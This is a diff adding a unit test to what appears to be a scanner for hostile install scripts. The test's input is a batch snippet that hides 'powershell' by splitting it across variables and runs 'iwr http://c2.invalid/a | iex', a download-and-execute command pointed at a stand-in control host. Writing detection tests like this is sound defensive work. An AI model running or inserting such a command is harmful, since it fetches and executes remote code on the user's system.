@@ -56,3 +56,9 @@ def test_remarks_and_honest_lines_show_nothing() -> None:
         )
         == set()
     )
+
+
+def test_values_end_with_their_line_whatever_ends_it():
+    text = 'set a=pow\r\nset b=ershell\r\n%a%%b% -c "iwr http://c2.invalid/a | iex"\r\n'
+    found = shell.facts(text, Location(member="x.bat"), "install", Budget(Limits()), "batch")
+    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
